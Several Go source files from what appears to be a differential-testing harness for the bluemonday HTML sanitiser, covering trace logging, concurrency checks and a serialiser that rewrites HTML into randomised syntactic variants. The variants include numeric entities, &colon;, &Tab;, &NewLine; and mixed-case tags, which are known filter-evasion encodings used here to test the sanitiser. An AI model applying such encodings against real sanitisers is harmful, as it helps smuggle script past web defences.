		if t.T == "text" || t.T == "raw" {
			b.WriteString(t.D)
		}
		if t.T == "space" {
			b.WriteString(" ")
		}
	}
	return b.String()
}

// DOMNode is a flattened DOM node.
type DOMNode struct {
	Kind  string // element comment doctype text
	Name  string
	NS    string
	Attrs []Attr
	Data  string
	Depth int
}

// VerdictContexts are the ordinary flow-content containers in which output is re-parsed.
var VerdictContexts = []string{"body", "div", "p", "td", "th", "li", "dd", "span", "blockquote", "section", "article"}

// ExploratoryContexts are parsed and reported but never decide a verdict.
var ExploratoryContexts = []string{"table", "select", "svg", "math", "title", "textarea"}

// ImpliedElements are the structural elements the tree builder may add by itself.
var ImpliedElements = map[string]bool{"tbody": true, "tr": true, "colgroup": true, "html": true, "head": true, "body": true}

// ParseIn parses b as a fragment inside container ctx and flattens the result.
func ParseIn(b []byte, ctx string) ([]DOMNode, error) {
	c := &html.Node{Type: html.ElementNode, Data: ctx, DataAtom: atom.Lookup([]byte(ctx))}
	nodes, err := html.ParseFragment(bytes.NewReader(b), c)
	if err != nil {
		return nil, err
	}
	out := []DOMNode{}
	var walk func(n *html.Node, d int)
	walk = func(n *html.Node, d int) {
		switch n.Type {
		case html.ElementNode:
			as := []Attr{}
			for _, a := range n.Attr {
				k := a.Key
				if a.Namespace != "" {
					k = a.Namespace + ":" + a.Key
				}
				as = append(as, Attr{k, a.Val})
			}
			out = append(out, DOMNode{Kind: "element", Name: n.Data, NS: n.Namespace, Attrs: as, Depth: d})
		case html.CommentNode:
			out = append(out, DOMNode{Kind: "comment", Data: n.Data, Depth: d})
		case html.DoctypeNode:
			out = append(out, DOMNode{Kind: "doctype", Data: n.Data, Depth: d})
		case html.TextNode:
			out = append(out, DOMNode{Kind: "text", Data: n.Data, Depth: d})
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch, d+1)
		}
	}
	for _, n := range nodes {
		walk(n, 0)
	}
	return out, nil
}
