package h

import (
	"bufio"
	"io"

	bm "github.com/microcosm-cc/bluemonday"
)

// CallResult is one real Sanitize call of a session with everything the oracles need.
type CallResult struct {
	CallID int
	Input  []byte
	Output []byte
	Rec    *CallRec
}

// SessionResult is a recorded session: a policy built through the real API and calls on it.
type SessionResult struct {
	Recipe Recipe
	Model  *AP // the harness' own reading of the recipe
	Snap   *AP // snapshot of the real policy after the last builder call
	Real   *bm.Policy
	B      *Builder // kept so that the policy can be extended after it has been used
	Calls  []*CallResult
	// BuildDiffs lists builder calls after which snapshot and model differ.
	BuildDiffs []string
}

// TraceWriter accumulates ndjson trace lines and the facts they need.
type TraceWriter struct {
	W      *bufio.Writer
	Facts  *Facts
	Lines  int
	nextID int
	// LineCall maps trace line number (1-based) to [session index, call id]
	LineInfo []LineInfo
	Sessions []*SessionResult
}

type LineInfo struct {
	Session int
	Call    int // 0 for reset/build lines
	Tok     int // index of the token event within the call, -1 otherwise
}

func NewTraceWriter(w io.Writer) *TraceWriter {
	return &TraceWriter{W: bufio.NewWriter(w), Facts: NewFacts()}
}

func (tw *TraceWriter) emit(e Ev, li LineInfo) {
	tw.W.Write(JSON(e))
	tw.W.WriteByte('\n')
	tw.Lines++
	tw.LineInfo = append(tw.LineInfo, li)
}

// BuildSession builds the real policy call by call, logging build events.
func (tw *TraceWriter) BuildSession(r Recipe) *SessionResult {
	s := &SessionResult{Recipe: r, Model: BlankAP()}
	si := len(tw.Sessions)
	tw.Sessions = append(tw.Sessions, s)
	tw.emit(Ev{"ev": "reset"}, LineInfo{si, 0, -1})
	tw.Facts.AddRecipe(r)
	b := &Builder{}
	for _, c := range r {
		c.norm()
		b.Apply(c)
		s.Model.Apply(c)
		snap := SnapshotAP(b.P)
		if d := APDiff(s.Model, snap); len(d) > 0 {
			s.BuildDiffs = append(s.BuildDiffs, c.M+": "+d[0])
		}
		tw.emit(Ev{"ev": "build", "pid": 1, "call": c, "snap": snap, "others": []interface{}{}}, LineInfo{si, 0, -1})
	}
	s.Real = b.P
	s.B = b
	s.Snap = SnapshotAP(b.P)
	return s
}

// Extend applies one more builder call to a session's policy (which may already have sanitised documents) and logs it.
func (tw *TraceWriter) Extend(s *SessionResult, c Call) {
	si := -1
	for i, x := range tw.Sessions {
		if x == s {
			si = i
		}
	}
	c.norm()
	tw.Facts.AddRecipe(Recipe{c})
	s.B.Apply(c)
	s.Model.Apply(c)
	s.Recipe = append(append(Recipe{}, s.Recipe...), c)
	snap := SnapshotAP(s.B.P)
	if d := APDiff(s.Model, snap); len(d) > 0 {
		s.BuildDiffs = append(s.BuildDiffs, c.M+": "+d[0])
	}
	tw.emit(Ev{"ev": "build", "pid": 1, "call": c, "snap": snap, "others": []interface{}{}}, LineInfo{si, 0, -1})
	s.Real = s.B.P
	s.Snap = snap
}

// Sanitize runs one recorded call on the session's policy and logs its events.
func (tw *TraceWriter) Sanitize(s *SessionResult, input []byte) *CallResult {
	si := -1
	for i, x := range tw.Sessions {
		if x == s {
			si = i
		}
	}
	tw.nextID++
	id := tw.nextID
	rec, out := RunRecorded(s.Real, input)
	cr := &CallResult{CallID: id, Input: input, Output: out, Rec: rec}
	s.Calls = append(s.Calls, cr)
	// facts under the model policy and under the real snapshot (they agree on an unmodified tree)
	pols := []*AP{s.Model}
	if len(s.BuildDiffs) > 0 {
		pols = append(pols, s.Snap)
	}
	for _, p := range pols {
		tw.Facts.AddPolicy(p)
	}
	for _, t := range rec.Toks {
		for _, p := range pols {
			tw.Facts.AddTag(p, t.Tok.N, t.Tok.A)
			tw.Facts.AddAfter(p, t.Tok.N, t.After)
		}
	}
	evs := rec.TraceEvents(id, "SanitizeReader", false)
	for i, e := range evs {
		ti := -1
		if e["ev"] == "tok" {
			ti = i - 1
		}
		tw.emit(e, LineInfo{si, id, ti})
	}
	return cr
}

func (tw *TraceWriter) Flush() { tw.W.Flush() }
