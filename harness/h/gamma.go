package h

import (
	"fmt"
	"math/rand"
	"strings"
)

// Gamma: abstract tokens -> bytes, in syntactic variants chosen by rng.
// variant 0 (rng == nil) is the canonical serialisation: lower case, double
// quotes, minimal escaping exactly as x/net/html's Token.String() produces.

func escText(s string, r *rand.Rand) string {
	var b strings.Builder
	for _, c := range s {
		switch {
		case c == '<':
			b.WriteString(pick(r, "&lt;", "&lt;", "&#60;", "&#x3c;", "&LT;"))
		case c == '&':
			b.WriteString(pick(r, "&amp;", "&amp;", "&#38;", "&#x26;"))
		case c == '>':
			b.WriteString(pick(r, "&gt;", ">", "&gt;", "&#62;"))
		case c == '"':
			b.WriteString(pick(r, "&#34;", "\"", "&quot;", "&#34;"))
		case c == '\'':
			b.WriteString(pick(r, "&#39;", "'", "&apos;", "&#39;"))
		case c == '\r':
			b.WriteString("&#13;")
		case r != nil && c > 0x20 && c < 0x7f && r.Intn(12) == 0:
			if r.Intn(2) == 0 {
				fmt.Fprintf(&b, "&#%d;", c)
			} else {
				fmt.Fprintf(&b, "&#x%X;", c)
			}
		default:
			b.WriteRune(c)
		}
	}
	return b.String()
}

func pick(r *rand.Rand, canon string, alts ...string) string {
	if r == nil {
		return canon
	}
	return alts[r.Intn(len(alts))]
}

func escAttr(s string, q byte, r *rand.Rand) string {
	var b strings.Builder
	for _, c := range s {
		switch {
		case c == '&':
			b.WriteString(pick(r, "&amp;", "&amp;", "&#38;"))
		case c == '"':
			if q == '"' || r == nil {
				b.WriteString(pick(r, "&#34;", "&#34;", "&quot;"))
			} else {
				b.WriteByte('"')
			}
		case c == '\'':
			if q == '\'' || r == nil {
				b.WriteString("&#39;")
			} else {
				b.WriteByte('\'')
			}
		case c == '<':
			b.WriteString(pick(r, "&lt;", "&lt;", "<", "&#60;"))
		case c == '>':
			b.WriteString(pick(r, "&gt;", "&gt;", ">", "&#62;"))
		case c == '\r':
			b.WriteString("&#13;")
		case r != nil && c >= 0x20 && c < 0x7f && r.Intn(10) == 0:
			switch r.Intn(3) {
			case 0:
				fmt.Fprintf(&b, "&#%d;", c)
			case 1:
				fmt.Fprintf(&b, "&#x%x;", c)
			default:
				fmt.Fprintf(&b, "&#%07d;", c)
			}
		case r != nil && c == ':' && r.Intn(3) == 0:
			b.WriteString("&colon;")
		case r != nil && c == '\t' && r.Intn(2) == 0:
			b.WriteString("&Tab;")
		case r != nil && c == '\n' && r.Intn(2) == 0:
			b.WriteString("&NewLine;")
		default:
			b.WriteRune(c)
		}
	}
	return b.String()
}

func caseName(n string, r *rand.Rand) string {
	if r == nil {
		return n
	}
	switch r.Intn(4) {
	case 0:
		return strings.ToUpper(n)
	case 1:
		b := []byte(n)
		for i := range b {
			if b[i] >= 'a' && b[i] <= 'z' && r.Intn(2) == 0 {
				b[i] -= 32
			}
		}
		return string(b)
	}
	return n
}

func unquotable(v string) bool {
	if v == "" {
		return false
	}
	return !strings.ContainsAny(v, " \t\n\f\r\"'=<>`&/")
}

func attrString(as []Attr, r *rand.Rand) string {
	var b strings.Builder
	for _, a := range as {
		b.WriteString(pick(r, " ", " ", " ", "\n", "\t", " / ", "  "))
		b.WriteString(caseName(a.K, r))
		style := 0
		if r != nil {
			style = r.Intn(5)
		}
		switch {
		case style == 1:
			b.WriteString("='" + escAttr(a.V, '\'', r) + "'")
		case style == 2 && unquotable(a.V):
			b.WriteString("=" + a.V)
		case style == 3 && a.V == "":
			// valueless
		case style == 4:
			b.WriteString(" = \"" + escAttr(a.V, '"', r) + "\"")
		default:
			b.WriteString("=\"" + escAttr(a.V, '"', r) + "\"")
		}
	}
	return b.String()
}

// Serialise turns abstract tokens into bytes.
func Serialise(toks []Tok, r *rand.Rand) []byte {
	var b strings.Builder
	for i, t := range toks {
		// the content of a raw-text element is not entity-decoded: write it verbatim
		if t.T == "text" && i > 0 && (toks[i-1].T == "start" || toks[i-1].T == "self") && rawTextNoDecode[toks[i-1].N] {
			b.WriteString(t.D)
			continue
		}
		switch t.T {
		case "start":
			b.WriteString("<" + caseName(t.N, r) + attrString(t.A, r) + pick(r, "", "", "", " ", "\n") + ">")
		case "self":
			if r == nil {
				b.WriteString("<" + t.N + attrString(t.A, r) + "/>")
			} else {
				b.WriteString("<" + caseName(t.N, r) + attrString(t.A, r) + pick(r, "/", " /", "/", "\n/") + ">")
			}
		case "end":
			b.WriteString("</" + caseName(t.N, r) + pick(r, "", "", "", " ", "\n", " x=y", " /") + ">")
		case "text", "space":
			d := t.D
			if t.T == "space" {
				d = " "
			}
			b.WriteString(escText(d, r))
		case "raw":
			b.WriteString(t.D)
		case "comment":
			switch {
			case strings.HasPrefix(t.D, "?"):
				b.WriteString("<" + t.D + ">")
			case strings.HasPrefix(t.D, "[CDATA["):
				b.WriteString("<!" + t.D + ">")
			default:
				// the tokenizer decodes character references in comment data: what would end the comment is written as a reference
				d := t.D
				if strings.Contains(d, "-->") || strings.Contains(d, "--!>") || strings.HasPrefix(d, ">") || strings.HasPrefix(d, "->") {
					d = strings.NewReplacer("&", "&amp;", ">", "&gt;").Replace(d)
				}
				b.WriteString("<!--" + d + "-->")
			}
		case "doctype":
			b.WriteString("<!" + pick(r, "DOCTYPE", "DOCTYPE", "doctype", "DocType") + " " + t.D + ">")
		}
	}
	return []byte(b.String())
}

var rawTextNoDecode = map[string]bool{"script": true, "style": true, "xmp": true, "iframe": true, "noembed": true, "noframes": true, "noscript": true, "plaintext": true}

// ReadsBackAs checks the concretiser: do the bytes tokenise to exactly toks?
func ReadsBackAs(b []byte, toks []Tok) bool {
	got := Tokens(b)
	want := make([]Tok, len(toks))
	for i, t := range toks {
		if t.A == nil {
			t.A = []Attr{}
		}
		want[i] = t
	}
	return ToksEq(got, want)
}
