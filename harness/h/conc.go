package h

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"os"
	"strings"
	"sync"
	"time"

	bm "github.com/microcosm-cc/bluemonday"
)

// C13: a finished policy is deterministic and safe to share between goroutines.

type gatedCall struct {
	rec   *CallRec
	turn  chan struct{} // scheduler -> call: process one token
	ack   chan bool     // call -> scheduler: true = arrived at the next token, false = finished
	out   []byte
	panic string
}

// RunScheduled runs one SanitizeReader call per input concurrently on p; the Tok hook is the
// scheduler gate: call sched[i] processes exactly one token at step i.
// plainDest is a destination without a WriteString method (the library then goes through its own adapter).
type plainDest struct{ b bytes.Buffer }

func (d *plainDest) Write(p []byte) (int, error) { return d.b.Write(p) }

// ScheduledPlainWriters selects the entry point of the scheduled calls: SanitizeReader (false) or SanitizeReaderToWriter into a
// destination that has no WriteString method (true).
var ScheduledPlainWriters bool

func RunScheduled(p *bm.Policy, inputs [][]byte, sched []int) (outs [][]byte, err error) {
	InstallHooks()
	calls := make([]*gatedCall, len(inputs))
	var wg sync.WaitGroup
	for i, in := range inputs {
		gc := &gatedCall{turn: make(chan struct{}), ack: make(chan bool)}
		gc.rec = &CallRec{Pid: 1, ID: i + 1}
		gc.rec.Gate = func(c *CallRec) {
			gc.ack <- true
			<-gc.turn
		}
		calls[i] = gc
		rd := bytes.NewReader(in)
		Register(rd, gc.rec)
		wg.Add(1)
		go func(gc *gatedCall, rd *bytes.Reader) {
			defer wg.Done()
			defer Unregister(rd)
			defer func() {
				if e := recover(); e != nil {
					gc.panic = fmt.Sprint(e)
				}
				gc.ack <- false
			}()
			if ScheduledPlainWriters {
				var d plainDest
				if e := p.SanitizeReaderToWriter(rd, &d); e != nil {
					panic(fmt.Sprintf("SanitizeReaderToWriter returned %v", e))
				}
				gc.out = d.b.Bytes()
			} else {
				gc.out = p.SanitizeReader(rd).Bytes()
			}
		}(gc, rd)
	}
	wait := func(gc *gatedCall) (bool, error) {
		select {
		case a := <-gc.ack:
			return a, nil
		case <-time.After(20 * time.Second):
			return false, fmt.Errorf("scheduler: call did not reach its gate")
		}
	}
	alive := make([]bool, len(calls))
	for i, gc := range calls {
		a, e := wait(gc)
		if e != nil {
			return nil, e
		}
		alive[i] = a
	}
	for _, c := range sched {
		i := c - 1
		if !alive[i] {
			return nil, fmt.Errorf("scheduler: schedule steps call %d which has already finished (tokenisation differs from the case)", c)
		}
		calls[i].turn <- struct{}{}
		a, e := wait(calls[i])
		if e != nil {
			return nil, e
		}
		alive[i] = a
	}
	for i, gc := range calls {
		for alive[i] {
			gc.turn <- struct{}{}
			a, e := wait(gc)
			if e != nil {
				return nil, e
			}
			alive[i] = a
		}
	}
	wg.Wait()
	for _, gc := range calls {
		if gc.panic != "" {
			return nil, fmt.Errorf("panic in concurrent call: %s", gc.panic)
		}
		outs = append(outs, gc.out)
	}
	return outs, nil
}

type concCase struct {
	Rid   int             `json:"rid"`
	Dids  json.RawMessage `json:"dids"`
	Sched []int           `json:"sched"`
	Outs  json.RawMessage `json:"outs"`
}

func intsOfTLC(raw json.RawMessage) []int {
	var a []int
	if json.Unmarshal(raw, &a) == nil {
		return a
	}
	var m map[string]int
	json.Unmarshal(raw, &m)
	out := make([]int, len(m))
	for k, v := range m {
		var i int
		fmt.Sscan(k, &i)
		if i >= 1 && i <= len(out) {
			out[i-1] = v
		}
	}
	return out
}

// C13ReplayFile reproduces a schedule.
type C13ReplayFile struct {
	Property string   `json:"property"`
	Key      string   `json:"key"`
	Detail   string   `json:"detail"`
	Recipe   Recipe   `json:"recipe"`
	Inputs   []string `json:"inputs"`
	Sched    []int    `json:"sched"`
}

func writeC13Replay(key, detail string, r Recipe, inputs [][]byte, sched []int) string {
	rf := C13ReplayFile{"C13", key, detail, r, nil, sched}
	for _, in := range inputs {
		rf.Inputs = append(rf.Inputs, string(in))
	}
	os.MkdirAll(ReplayDir(), 0o755)
	path := fmt.Sprintf("%s/C13-%08x.json", ReplayDir(), hashString(string(JSON(rf))))
	os.WriteFile(path, JSON(rf), 0o644)
	return path
}

// checkSchedule runs one schedule and judges C13 on it.
func checkSchedule(res *RunResult, recipe Recipe, twin *bm.Policy, inputs [][]byte, sched []int, seen map[string]bool) error {
	// the sequential reference comes from a twin built from the same recipe; the shared policy is
	// fresh: its very first uses are the concurrent ones
	seq := make([][]byte, len(inputs))
	for i, in := range inputs {
		seq[i] = twin.SanitizeReader(bytes.NewReader(in)).Bytes()
	}
	if !ScheduledPlainWriters {
		// the same schedule once more with the other entry point (destinations without WriteString)
		ScheduledPlainWriters = true
		err := checkSchedule(res, recipe, twin, inputs, sched, seen)
		ScheduledPlainWriters = false
		if err != nil {
			return err
		}
	}
	real := BuildReal(recipe)
	before := SnapshotAP(real)
	outs, err := RunScheduled(real, inputs, sched)
	if err != nil {
		return err
	}
	res.Execs += len(inputs)
	after := SnapshotAP(real)
	add := func(key, det string) {
		if !seen[key] || len(res.Violations) < 5 {
			seen[key] = true
			res.Violations = append(res.Violations, ViolationRec{Finding{"C13", key, det}, writeC13Replay(key, det, recipe, inputs, sched)})
		}
	}
	if d := APDiff(before, after); len(d) > 0 {
		add("policy-changed", fmt.Sprintf("sanitising concurrently changed the shared policy: %s", d[0]))
	}
	for i := range inputs {
		if !bytes.Equal(outs[i], seq[i]) {
			add("differs-from-sequential", fmt.Sprintf("call %d on %q under schedule %v (%s) returned %q, sequentially %q", i+1, inputs[i], sched,
				map[bool]string{false: "SanitizeReader", true: "SanitizeReaderToWriter, destination without WriteString"}[ScheduledPlainWriters], outs[i], seq[i]))
		}
		if again := real.SanitizeReader(bytes.NewReader(inputs[i])).Bytes(); !bytes.Equal(again, seq[i]) {
			add("later-behaviour", fmt.Sprintf("after the concurrent calls, sanitising %q gives %q instead of %q", inputs[i], again, seq[i]))
		}
	}
	return nil
}

// cmdReplayConc: CASE lines of MC_Conc: every interleaving, stepped through the real code with the gate.
func cmdReplayConc(args []string) int {
	fs := flag.NewFlagSet("replayconc", flag.ExitOnError)
	famPath := fs.String("fam", "", "")
	_ = fs.String("props", "", "")
	_ = fs.Int("variants", 1, "")
	_ = fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replayconc", "")
	fs.Parse(args)
	var fam struct {
		Recipes []Recipe `json:"recipes"`
		Docs    []ioDoc  `json:"docs"`
	}
	if err := LoadJSONFile(*famPath, &fam); err != nil {
		fmt.Fprintln(os.Stderr, "replayconc:", err)
		return 2
	}
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	pols := map[int]*bm.Policy{}
	docBytes := make([][]byte, len(fam.Docs))
	docToks := make([][]Tok, len(fam.Docs))
	for i, d := range fam.Docs {
		for _, t := range d.Toks {
			docToks[i] = append(docToks[i], DecTok(t))
		}
		docBytes[i] = Serialise(docToks[i], nil)
		if !ReadsBackAs(docBytes[i], docToks[i]) {
			fmt.Fprintf(os.Stderr, "replayconc: document %d does not read back\n", i+1)
			return 2
		}
	}
	nt := map[string]bool{}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
			var c concCase
			if e := json.Unmarshal([]byte(js), &c); e != nil {
				fmt.Fprintln(os.Stderr, "replayconc: bad case:", e)
				return 2
			}
			res.Cases++
			res.Applicable["C13"]++
			p := BuildReal(fam.Recipes[c.Rid-1]) // a fresh twin per schedule (a change may make policies grow with use)
			_ = pols
			dids := intsOfTLC(c.Dids)
			inputs := [][]byte{}
			for _, d := range dids {
				inputs = append(inputs, docBytes[d-1])
			}
			nt[fmt.Sprint(c.Rid, dids)] = true
			if e := checkSchedule(res, fam.Recipes[c.Rid-1], p, inputs, c.Sched, seen); e != nil {
				fmt.Fprintln(os.Stderr, "replayconc:", e)
				return 2
			}
			// conformance: the specification's outputs
			var outsRaw []json.RawMessage
			if json.Unmarshal(c.Outs, &outsRaw) != nil {
				var m map[string]json.RawMessage
				json.Unmarshal(c.Outs, &m)
				outsRaw = make([]json.RawMessage, len(m))
				for k, v := range m {
					var i int
					fmt.Sscan(k, &i)
					outsRaw[i-1] = v
				}
			}
			for i, raw := range outsRaw {
				var pred []Tok
				json.Unmarshal(raw, &pred)
				for k := range pred {
					pred[k] = DecTok(pred[k])
				}
				got := Tokens(p.SanitizeReader(bytes.NewReader(inputs[i])).Bytes())
				if !ToksEq(MergeText(pred), MergeText(got)) {
					res.diverge("call %d of case rid=%d dids=%v: real output %s, spec %s", i+1, c.Rid, dids, ToksString(got), ToksString(pred))
				}
			}
			if len(res.Samples) < 2 {
				res.Samples = append(res.Samples, map[string]interface{}{"recipe_index": c.Rid, "inputs": []string{string(inputs[0]), string(inputs[len(inputs)-1])}, "schedule": c.Sched})
			}
		}
		if err != nil {
			break
		}
	}
	res.Nontrivial = len(nt)
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replayconc: schedules=%d execs=%d divergences=%d violations=%d\n", res.Cases, res.Execs, res.Divergences, len(res.Violations))
	return 0
}

// cmdConcStress: free-running contention (meant for the -race build): G goroutines sanitise random
// inputs on one shared policy, every result compared with the sequential one; each input is also
// repeated R times in one goroutine (Go randomises every map range).
func cmdConcStress(args []string) int {
	fs := flag.NewFlagSet("concstress", flag.ExitOnError)
	seed := fs.Int64("seed", 1, "")
	policies := fs.Int("policies", 12, "")
	inputsN := fs.Int("inputs", 40, "")
	g := fs.Int("g", 16, "goroutines")
	repeat := fs.Int("repeat", 20, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "concstress", "")
	fs.Parse(args)
	rng := rand.New(rand.NewSource(*seed))
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	for k := 0; k < *policies; k++ {
		var recipe Recipe
		switch k % 5 {
		case 0:
			recipe = Recipe{{M: "UGCPolicy"}, {M: "AllowStyles", Props: []string{"color", "font-size", "border", "font", "background", "animation"}, Scope: "glob"}, {M: "AllowDataURIImages"}}
		case 1:
			recipe = Recipe{{M: "NewPolicy"}, {M: "AllowElementsMatching", Pat: ".*"}, {M: "AllowAttrs", Attrs: []string{"class", "style"}, Scope: "pat", Pat: "^c"},
				{M: "AllowAttrs", Attrs: []string{"class", "title"}, Scope: "pat", Pat: "x$", Match: "re:^[a-z]+$"},
				{M: "AllowStyles", Props: []string{"color"}, Scope: "pat", Pat: "^custom-", Enum: "e:red|blue"},
				{M: "AllowStyles", Props: []string{"color"}, Scope: "pat", Pat: "-x$", Re: "r:^green$"},
				{M: "RewriteSrc", Fid: "f:" + FuncName(RewriteProxy)}, {M: "AllowStandardURLs"}, {M: "AllowAttrs", Attrs: []string{"src"}, Scope: "els", Els: []string{"img"}}}
		case 2:
			// three global rules for one attribute plus element rules for it on two elements
			recipe = Recipe{{M: "NewPolicy"}, {M: "AllowAttrs", Attrs: []string{"class"}, Scope: "glob", Match: "re:^a+$"},
				{M: "AllowAttrs", Attrs: []string{"class"}, Scope: "glob", Match: "re:^b+$"}, {M: "AllowAttrs", Attrs: []string{"class"}, Scope: "glob", Match: "re:^c+$"},
				{M: "AllowAttrs", Attrs: []string{"class"}, Scope: "els", Els: []string{"p"}, Match: "re:^p+$"},
				{M: "AllowAttrs", Attrs: []string{"class"}, Scope: "els", Els: []string{"span"}, Match: "re:^s+$"},
				{M: "AllowElements", Names: []string{"p", "span", "b"}}}
		default:
			recipe = GenRecipe(rng, GenOpts{NoUnsafe: true})
			if recipe[0].M == "ZeroValue" {
				recipe[0].M = "NewPolicy" // the property is about policies built with the constructors
			}
		}
		for i := range recipe {
			recipe[i].norm()
		}
		model, real, twin := BuildAP(recipe), BuildReal(recipe), BuildReal(recipe)
		inputs := [][]byte{[]byte(`<p class="pp">1</p><span class="ss">2</span><p class="ss">3</p><span class="pp">4</span><b class="aa">5</b>`),
			[]byte(`<span class="pp">x</span><p class="ss">y</p><p class="bb">z</p>`),
			// shorthand values of several components: long validations that overlap when many goroutines run
			[]byte(`<p style="border: 1px solid red; font: italic bold 12px serif; background: red none repeat scroll top left; animation: ease 1s 1 normal none">s</p>` +
				`<span style="border: thin dotted #fff; font: normal small-caps bold 10px serif; background: #fff">t</span>`)}
		for i := 0; i < *inputsN; i++ {
			_, b := GenDoc(rng, model, []int{0, 1, 3, 4, 6, 8}[rng.Intn(6)])
			inputs = append(inputs, b)
		}
		seq := make([]string, len(inputs))
		for i, in := range inputs {
			seq[i] = twin.Sanitize(string(in)) // the shared policy's first uses are the concurrent ones
		}
		before := SnapshotAP(real)
		var wg sync.WaitGroup
		var mu sync.Mutex
		bad := []string{}
		for w := 0; w < *g; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				for r := 0; r < *repeat; r++ {
					for i := range inputs {
						j := (i*7 + w*3 + r) % len(inputs)
						var got string
						switch (w + r) % 3 {
						case 0:
							got = real.Sanitize(string(inputs[j]))
						case 1:
							// the returned slice is held while another call runs, then read
							held := real.SanitizeBytes(append([]byte{}, inputs[j]...))
							real.SanitizeBytes(inputs[(j+1)%len(inputs)])
							got = string(held)
						default:
							got = real.SanitizeReader(bytes.NewReader(inputs[j])).String()
						}
						if strings.TrimSpace(string(inputs[j])) == "" {
							continue
						}
						if got != seq[j] {
							mu.Lock()
							bad = append(bad, fmt.Sprintf("concurrent call on %q returned %q, sequentially %q", inputs[j], got, seq[j]))
							mu.Unlock()
						}
					}
				}
			}(w)
		}
		wg.Wait()
		res.Execs += *g * *repeat * len(inputs)
		res.Cases++
		res.Applicable["C13"]++
		if len(bad) > 0 && !seen["stress-differs"] {
			seen["stress-differs"] = true
			res.Violations = append(res.Violations, ViolationRec{Finding{"C13", "stress-differs", bad[0]}, writeC13Replay("stress-differs", bad[0], recipe, inputs[:1], nil)})
		}
		// results belong to the caller: a buffer one call returned (also from a call whose reader failed) may be written to
		// and must never come back from a later call
		for _, fail := range []int{-1, 2} {
			in := inputs[0]
			mk := func() io.Reader { return newScriptReader(in, ReaderScript{FailAt: fail, ErrKind: 1}) }
			want := real.SanitizeReader(mk()).String()
			b1 := real.SanitizeReader(mk())
			b1.WriteString("POISON-WRITTEN-BY-AN-EARLIER-CALLER")
			if got := real.SanitizeReader(mk()).String(); got != want && !seen["aliased-result"] {
				seen["aliased-result"] = true
				det := fmt.Sprintf("a result buffer returned by SanitizeReader (reader failing at byte %d) was written to by its caller; the next call returned %q instead of %q", fail, got, want)
				res.Violations = append(res.Violations, ViolationRec{Finding{"C13", "aliased-result", det}, writeC13Replay("aliased-result", det, recipe, inputs[:1], nil)})
			}
			res.Execs += 3
		}
		if d := APDiff(before, SnapshotAP(real)); len(d) > 0 && !seen["stress-policy"] {
			seen["stress-policy"] = true
			res.Violations = append(res.Violations, ViolationRec{Finding{"C13", "policy-changed", "policy changed under concurrent use: " + d[0]}, writeC13Replay("policy-changed", d[0], recipe, inputs[:1], nil)})
		}
	}
	res.Nontrivial = res.Cases
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("concstress: policies=%d execs=%d violations=%d\n", res.Cases, res.Execs, len(res.Violations))
	return 0
}

func reproC13(path string) int {
	var rf C13ReplayFile
	if err := LoadJSONFile(path, &rf); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	res := &RunResult{}
	inputs := [][]byte{}
	for _, s := range rf.Inputs {
		inputs = append(inputs, []byte(s))
	}
	if err := checkSchedule(res, rf.Recipe, BuildReal(rf.Recipe), inputs, rf.Sched, map[string]bool{}); err != nil {
		fmt.Println("infrastructure:", err)
		return 2
	}
	if len(res.Violations) > 0 {
		fmt.Printf("VIOLATION property=C13 replay=%s\n  %s\n", path, res.Violations[0].Detail)
		return 1
	}
	fmt.Println("property holds on this replay")
	return 0
}

func init() {
	Commands["replayconc"] = cmdReplayConc
	Commands["concstress"] = cmdConcStress
}
