package h

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"regexp"
	"strings"

	bm "github.com/microcosm-cc/bluemonday"
)

// C19: the exported attribute matchers.

var charNames = map[string]string{"TAB": "\t", "LF": "\n", "FF": "\f", "CR": "\r", "BACKSLASH": "\\", "QUOTE": "\"", "CTRL-1": "\x01", "NUL": "\x00",
	"LETTER-E-ACUTE": "é", "LETTER-CJK": "中", "NUMBER-ARABIC-INDIC-3": "٣"}

func realMatchers() map[string]*regexp.Regexp {
	return map[string]*regexp.Regexp{"CellAlign": bm.CellAlign, "CellVerticalAlign": bm.CellVerticalAlign, "Direction": bm.Direction,
		"ImageAlign": bm.ImageAlign, "Integer": bm.Integer, "ISO8601": bm.ISO8601, "ListType": bm.ListType,
		"SpaceSeparatedTokens": bm.SpaceSeparatedTokens, "Number": bm.Number, "NumberOrPercent": bm.NumberOrPercent, "Paragraph": bm.Paragraph}
}

type matcherCase struct {
	M   string   `json:"m"`
	S   []string `json:"s"`
	Doc bool     `json:"doc"`
	Ex  bool     `json:"ex"`
}

// MatcherReplayFile reproduces a C19 finding.
type MatcherReplayFile struct {
	Property string `json:"property"`
	Key      string `json:"key"`
	Detail   string `json:"detail"`
	Matcher  string `json:"matcher"`
	Value    string `json:"value"`
	WantAcc  bool   `json:"documented_form"`
}

func cmdReplayMatchers(args []string) int {
	fs := flag.NewFlagSet("replaymatchers", flag.ExitOnError)
	_ = fs.String("fam", "", "")
	_ = fs.String("props", "", "")
	_ = fs.Int("variants", 1, "")
	_ = fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replaymatchers", "")
	fs.Parse(args)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	ms := realMatchers()
	seen := map[string]bool{}
	under := map[string]int{}
	accepted := map[string]int{}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
			var c matcherCase
			if e := json.Unmarshal([]byte(js), &c); e != nil {
				fmt.Fprintln(os.Stderr, "replaymatchers: bad case:", e)
				return 2
			}
			var sb strings.Builder
			for _, ch := range c.S {
				if r, ok := charNames[ch]; ok {
					sb.WriteString(r)
				} else {
